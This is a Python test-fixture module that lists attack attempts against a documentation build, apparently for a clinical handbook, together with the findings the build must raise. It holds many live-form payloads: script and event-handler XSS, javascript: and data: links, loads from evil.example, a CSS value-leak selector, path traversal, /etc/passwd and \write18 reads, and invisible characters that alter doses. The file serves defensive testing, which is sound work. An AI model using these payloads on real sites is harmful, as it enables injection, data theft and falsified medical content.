"""What an attacker may try in a pull request: one page, or one file, for each attempt."""

# ruff: noqa: E501 - an attack is a line

from __future__ import annotations

from dataclasses import dataclass

from tests.conftest import FRONT_MATTER

FIRST_LINE = FRONT_MATTER.count("\n") + 1
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{attributes}>\n{body}\n</svg>\n'


@dataclass(frozen=True)
class Attack:
    """One attempt: the text of a page, or the content of a file, and what the build says about it.

    ``line`` counts from the first line of ``text``; for a page the front matter stands above it.
    """

    name: str
    text: str
    line: int
    says: str
    front: str = FRONT_MATTER
    path: str = ""

    @property
    def place(self) -> str:
        """The place that the finding names."""
        if self.path:
            return f"{self.path}:{self.line}" if self.line else self.path
        above = 0 if self.front != FRONT_MATTER else FIRST_LINE - 1
        return f"source/attacks/{self.name}.md:{self.line + above}"


def _page(name: str, text: str, says: str, line: int = 3) -> Attack:
    return Attack(name, f"# {name}\n\n{text}\n", line, says)


def _front(name: str, fields: str, says: str) -> Attack:
    front = FRONT_MATTER.replace("\n---\n\n", f"\n{fields}\n---\n\n")
    return Attack(name, f"# {name}\n\nText.\n", 6, says, front=front)


def _svg(name: str, body: str, says: str, attributes: str = "", line: int = 2) -> Attack:
    return Attack(name, _SVG.format(attributes=attributes, body=body), line, says, path=f"_static/{name}.svg")


HTML = [
    _page("script-block", "<script>alert(1)</script>", "raw HTML"),
    _page("script-inline", "Take <script>alert(1)</script> now.", "raw HTML"),
    _page("script-capitals", "<ScRiPt>alert(1)</sCrIpT>", "raw HTML"),
    _page("script-address", '<script src="https://evil.example/x.js"></script>', "raw HTML"),
    _page("onerror", '<img src="x" onerror="alert(1)">', "raw HTML"),
    _page("onerror-inline", "Look: <img src=x onerror=alert(1)> here.", "raw HTML"),
    _page("onclick", '<a href="#" onclick="alert(1)">x</a>', "raw HTML"),
    _page("ontoggle", "<details open ontoggle=alert(1)>x</details>", "raw HTML"),
    _page("svg-onload", "<svg onload=alert(1)></svg>", "raw HTML"),
    _page("math-html", '<math><a xlink:href="javascript:alert(1)">x</a></math>', "raw HTML"),
    _page("iframe", '<iframe src="https://evil.example"></iframe>', "raw HTML"),
    _page("frame-document", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "raw HTML"),
    _page("object", '<object data="https://evil.example/x.swf"></object>', "raw HTML"),
    _page("embed", '<embed src="https://evil.example/x">', "raw HTML"),
    _page("form", '<form action="https://evil.example"><input name=q></form>', "raw HTML"),
    _page("base", '<base href="https://evil.example/">', "raw HTML"),
    _page("style-block", "<style>@import 'https://evil.example/x.css';</style>", "raw HTML"),
    _page("link-style", '<link rel="stylesheet" href="https://evil.example/x.css">', "raw HTML"),
    _page("refresh-html", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "raw HTML"),
    _page("template", "<template><script>alert(1)</script></template>", "raw HTML"),
    _page("comment-trick", "<!--><script>alert(1)</script>-->", "raw HTML"),
    _page("cdata", "<![CDATA[<script>alert(1)</script>]]>", "raw HTML"),
    _page("instruction", "<?xml-stylesheet href='https://evil.example/x.xsl'?>", "raw HTML"),
    _page("in-heading", "## Do <b onmouseover=alert(1)>this</b>", "raw HTML"),
    _page("in-table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "raw HTML", line=5),
    _page("in-definition", "Term\n: <script>alert(1)</script>", "raw HTML", line=4),
    _page("in-admonition", "```{warning}\n<script>alert(1)</script>\n```", "raw HTML", line=4),
    _page("in-card", ":::{card} Title\n<script>alert(1)</script>\n:::", "raw HTML", line=4),
    _page("in-footnote", "Text.[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "raw HTML", line=5),
    _page(
        "in-glossary",
        "```{glossary-term} Bad\n:plain: bad\n\nA <script>alert(1)</script> word.\n```",
        "raw HTML",
        line=6,
    ),
    _page("raw-directive", "```{raw} html\n<script>alert(1)</script>\n```", "'raw' is not allowed"),
    _page("raw-file", "```{raw} html\n:file: ../../../outside.html\n```", "'raw' is not allowed"),
    _page("raw-address", "```{raw} html\n:url: http://127.0.0.1:9/x.html\n```", "'raw' is not allowed"),
    _page("raw-latex", "```{raw} latex\n\\write18{id}\n```", "'raw' is not allowed"),
    _page("raw-typst", '```{raw} typst\n#read("/etc/passwd")\n```', "'raw' is not allowed"),
    _page(
        "rst-raw",
        "```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```",
        "'raw' is not allowed",
        line=4,
    ),
    _page(
        "rst-raw-role",
        "```{eval-rst}\n.. role:: h(raw)\n   :format: html\n\nA :h:`<b onclick=x>` b\n```",
        "raw HTML",
        line=7,
    ),
    _page(
        "style-option", "```{div}\n:style: position:fixed;inset:0\n\nText.\n```", "':style:' is not allowed"
    ),
    _page(
        "meta-directive",
        "```{meta}\n:http-equiv=refresh: 0;url=https://evil.example\n```",
        "may not add to its head",
    ),
    _page(
        "rst-meta",
        "```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0;url=//evil.example\n```",
        "may not add to its head",
        line=4,
    ),
]

ADDRESSES = [
    _page("js-link", "[x](javascript:alert(1))", "'javascript:'"),
    _page("js-capitals", "[x](JaVaScRiPt:alert(1))", "'javascript:'"),
    _page("js-entity", "[x](javascript&colon;alert(1))", "'javascript:'"),
    _page("js-definition", "[x][y]\n\n[y]: javascript:alert(1)", "'javascript:'", line=5),
    _page("js-card", ":::{card} x\n:link: javascript:alert(1)\n:::", "'javascript:'"),
    _page("js-card-tab", ":::{card} x\n:link: \"java\\tscript:alert(1)\"\n:::", "'javascript:'"),
    _page("js-grid-card", "::::{grid} 1\n:::{grid-item-card} x\n:link: javascript:alert(1)\n:::\n::::", "'javascript:'", line=5),
    _page("js-button", "```{button-link} javascript:alert(1)\nx\n```", "'javascript:'"),
    _page("js-target", "```{image} ../../_static/fine.svg\n:alt: x\n:target: javascript:alert(1)\n```", "'javascript:'"),
    _page("js-figure", "```{figure} ../../_static/fine.svg\n:alt: x\n:target: javascript:alert(1)\n\nx\n```", "'javascript:'"),
    _page("js-rst", "```{eval-rst}\n`x <javascript:alert(1)>`__\n```", "'javascript:'", line=4),
    _page("js-rst-target", "```{eval-rst}\nx_\n\n.. _x: javascript:alert(1)\n```", "'javascript:'", line=6),
    _page("js-toctree", "```{toctree}\nx <javascript://%0aalert(1)>\n```", "'javascript:'"),
    _page("data-link", "[x](data:text/html;base64,PHNjcmlwdD4=)", "'data:'"),
    _page("data-card", ":::{card} x\n:link: data:text/html,<script>alert(1)</script>\n:::", "'data:'"),
    _page("vbscript-button", "```{button-link} vbscript:msgbox(1)\nx\n```", "'vbscript:'"),
    _page("file-link", "[x](file:///etc/passwd)", "'file:'"),
    _page("file-button", "```{button-link} file:///etc/passwd\nx\n```", "'file:'"),
    _page("blob-button", "```{button-link} blob:https://evil.example/x\nx\n```", "'blob:'"),
    _page("ftp-link", "[x](ftp://evil.example/x)", "'ftp:'"),
    _page("no-scheme", ":::{card} x\n:link: //evil.example/x\n:::", "without https:"),
    _page("backslashes", ":::{card} x\n:link: \\\\\\\\evil.example\n:::", "backslash"),
    _page("hidden-host", "[x](https://nice.org.uk@evil.example/)", "hides its site"),
    _page("look-alike", ":::{card} x\n:link: https://nіce.org.uk/\n:::", "look like others"),
    _page("link-in-link", "[a {claim}`b` c](../index.md)", "holds another link"),
    _page("false-words", "[https://nice.org.uk](https://evil.example/)", "leads to"),
    _page("remote-image", "![x](https://evil.example/x.png)", "not a file of the handbook"),
    _page("remote-http-image", "![x](http://evil.example/x.png)", "not a file of the handbook"),
    _page("schemeless-image", "![x](//evil.example/x.png)", "lies outside"),
    _page("data-image", "![x](data:image/png;base64,iVBORw0KGgo=)", "not a file of the handbook"),
    _page("remote-figure", "```{figure} https://evil.example/x.png\n:alt: x\n\nx\n```", "not a file of the handbook"),
    _page("remote-card", ":::{card} x\n:img-top: https://evil.example/x.png\n:img-alt: x\n:::", "not a file of the handbook"),
    _page("rst-image", "```{eval-rst}\n.. image:: https://evil.example/x.png\n   :alt: x\n```", "not a file of the handbook", line=4),
    _page("remote-download", "{download}`https://evil.example/x.exe`", "download from another site"),
    _page("remote-table", "```{csv-table} x\n:url: http://127.0.0.1:9/x.csv\n```", "table from another site"),
    Attack("js-source", "@misc{evil2020,\n  title = {x}, year = {2020},\n  url = {javascript:alert(1)},\n  read = {abstract}, readat = {x}, complete = {yes}\n}\n", 3, "'javascript:'", path="source/evil.bib"),
    Attack("js-source-note", "@misc{evil2021,\n  title = {x}, note = {\\href{data:text/html,x}{y}},\n  read = {abstract}, readat = {x}, complete = {yes}\n}\n", 2, "'data:'", path="source/evil2.bib"),
]  # fmt: skip

FRONT = [
    _front("myst-html", "myst:\n  enable_extensions: [html_image]", "'myst' is not allowed"),
    _front("myst-jinja", "myst:\n  enable_extensions: [substitution]", "'myst' is not allowed"),
    _front("myst-schemes", "myst:\n  url_schemes: [javascript]", "'myst' is not allowed"),
    _front("myst-meta", 'myst:\n  html_meta:\n    "http-equiv=refresh": "0;url=//evil.example"', "'myst' is not allowed"),
    _front("old-meta", 'html_meta:\n  "http-equiv=refresh": "0;url=//evil.example"', "'html_meta' is not allowed"),
    _front("quoted-field", '"myst":\n  enable_extensions: [substitution]', "'myst' is not allowed"),
    _front("substitutions", "substitutions:\n  a: '{{ env }}'", "'substitutions' is not allowed"),
]  # fmt: skip

FILES = [
    _page("include-outside", "```{include} ../../outside.md\n```", "lies outside"),
    _page("include-absolute", "```{include} /../outside.md\n```", "lies outside"),
    _page("literal-outside", "```{literalinclude} ../../outside.md\n```", "lies outside"),
    _page("table-outside", "```{csv-table} x\n:file: ../../outside.md\n```", "lies outside", line=4),
    _page("image-outside", "![x](../../outside.svg)", "lies outside"),
    _page("download-outside", "{download}`../../outside.md`", "lies outside"),
    _page("link-outside", "[x](path:../../outside.md)", "lies outside"),
    _page("include-linked", "```{include} linked.txt\n```", "lies outside"),
    _page("rst-include", "```{eval-rst}\n.. include:: ../../outside.md\n```", "lies outside", line=4),
    Attack("static-page", "<script>alert(1)</script>", 0, "type '.html'", path="_static/page.html"),
    Attack("static-script", "alert(1)", 0, "type '.js'", path="_static/extra.js"),
    Attack("packed-svg", "x", 0, "type '.svgz'", path="_static/packed.svgz"),
    Attack("page-script", "alert(1)", 0, "type '.js'", path="source/attacks/run.js"),
    Attack("source-page", "<script>alert(1)</script>", 0, "type '.htm'", path="source/attacks/page.htm"),
    Attack("no-type", "x", 0, "type 'LICENCE'", path="source/attacks/LICENCE"),
    Attack("markup-name", "x", 0, "name", path="_static/<img src=x onerror=alert(1)>.png"),
    Attack("quote-name", "x", 0, "name", path='_static/a" onload="alert(1).png'),
    Attack("scheme-name", "x", 0, "name", path="source/attacks/javascript:alert(1).txt"),
    Attack("css-import", '@import "https://evil.example/x.css";', 1, "style sheet loads", path="_static/a.css"),
    Attack("css-font", "@font-face {\n  src: url(//evil.example/x.woff2);\n}", 2, "style sheet loads", path="_static/b.css"),
    Attack("css-leak", "input[value^=a] {\n  background: url('https://evil.example/a');\n}", 2, "style sheet loads", path="_static/c.css"),
    Attack("turned-text", "# t\n\nGive \u202e01\u202c mg.\n", 3, "nobody sees", path="source/attacks/turned.txt"),
    _page("turned-dose", "Give \u202e05\u202c mg.", "nobody sees"),
    _page("zero-width", "Give 1\u200b0 mg.", "nobody sees"),
    _page("tag-signs", "Text \U000e0041\U000e0042.", "nobody sees"),
    _page("false-sign-off", "[Signed off by Dr Who]{.review-signed}", "belongs to lines"),
    _page("false-certainty", "```{container} claim-high\nx\n```\n\n{.claim-high}\nx", "belongs to lines", line=7),
]  # fmt: skip

DRAWINGS = [
    _svg("svg-script", "<script>alert(1)</script>", "holds <script>"),
    _svg("svg-script-link", '<script xlink:href="https://evil.example/x.js"/>', "holds <script>"),
    _svg("svg-root-event", "", "event attribute onload", attributes=' onload="alert(1)"', line=1),
    _svg("svg-event", '<rect onclick="alert(1)"/>', "event attribute onclick"),
    _svg("svg-foreign", "<foreignObject><b xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>", "holds <foreignObject>"),
    _svg("svg-link", '<a xlink:href="javascript:alert(1)"><text>x</text></a>', "holds <a>"),
    _svg("svg-image", '<image href="https://evil.example/x.png"/>', "holds <image>"),
    _svg("svg-use", '<use href="https://evil.example/x.svg#a"/>', "outside itself"),
    _svg("svg-use-data", '<use xlink:href="data:image/svg+xml,x#a"/>', "outside itself"),
    _svg("svg-animate", '<animate attributeName="href" to="javascript:alert(1)"/>', "holds <animate>"),
    _svg("svg-set", '<set attributeName="onload" to="alert(1)"/>', "holds <set>"),
    _svg("svg-style-import", "<style>@import 'https://evil.example/x.css';</style>", "loads a file"),
    _svg("svg-style-font", "<style>@font-face{src:url(https://evil.example/x)}</style>", "loads a file"),
    _svg("svg-fill", '<rect fill="url(https://evil.example/x.svg#a)"/>', "loads a file"),
    _svg("svg-style-attribute", '<rect style="background:url(https://evil.example/x)"/>', "loads a file"),
    _svg("svg-html", '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>', "holds <script>"),
    _svg("svg-base", '<g xml:base="https://evil.example/"/>', "xml:base"),
    Attack("svg-entity", '<!DOCTYPE svg [<!ENTITY x "<script/>">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>', 1, "document type", path="_static/svg-entity.svg"),
    Attack("svg-external", '<!DOCTYPE svg SYSTEM "file:///etc/passwd">\n<svg xmlns="http://www.w3.org/2000/svg"/>', 1, "document type", path="_static/svg-external.svg"),
    Attack("svg-sheet", '<?xml-stylesheet href="https://evil.example/x.css"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', 1, "instruction", path="_static/svg-sheet.svg"),
    Attack("svg-not-xml", "<svg onload=alert(1)>", 1, "is not XML", path="_static/svg-not-xml.svg"),
    Attack("svg-among-pages", _SVG.format(attributes="", body="<script>alert(1)</script>"), 2, "holds <script>", path="source/attacks/drawing.svg"),
]  # fmt: skip

REFUSED = [*HTML, *ADDRESSES, *FRONT, *FILES, *DRAWINGS]

# Text that looks like an attack and is one only where it is not escaped. Each holds the word beside it.
HARMLESS = {
    "svg-slash": ("A <svg/onload=alert('xslash')> b", "xslash"),
    "code-span": ("Write `<script>alert('xcode')</script>` in no page.", "xcode"),
    "code-block": ("```text\n<img src=x onerror=alert('xblock')>\n```", "xblock"),
    "entities": ("A &lt;script&gt;alert('xentity')&lt;/script&gt; b", "xentity"),
    "escaped": (r"A \<script>alert('xescaped')\</script> b", "xescaped"),
    "autolink": ("A <javascript:alert('xauto')> b", "xauto"),
    "jinja": ("A {{ env.xjinja }} and {% raw %} b", "xjinja"),
    "quotes": ("A \"' onmouseover='alert(1)' xquotes b", "xquotes"),
    "ampersand": ("A &amp;lt;b&amp;gt; xamp &#60;i&#62; b", "xamp"),
    "closing-script": ("A &lt;/script&gt;&lt;script&gt;xclosing b", "xclosing"),
    "typst": ("A #eval(\"xtypst\") $x$ @ref *b* #read(\"/etc/passwd\")", "xtypst"),
    "alternative": ("![\"><script>xalt</script>](../_static/fine.svg)", ""),
    "link-title": ("[x](index.md '\"><script>xtitle</script>')", ""),
    "attribute": ("[xspan]{onclick=alert(1) style=color:red} b", "xspan"),
    "format-string": ("A %s %(x)s {0} {x} xformat b", "xformat"),
}  # fmt: skip
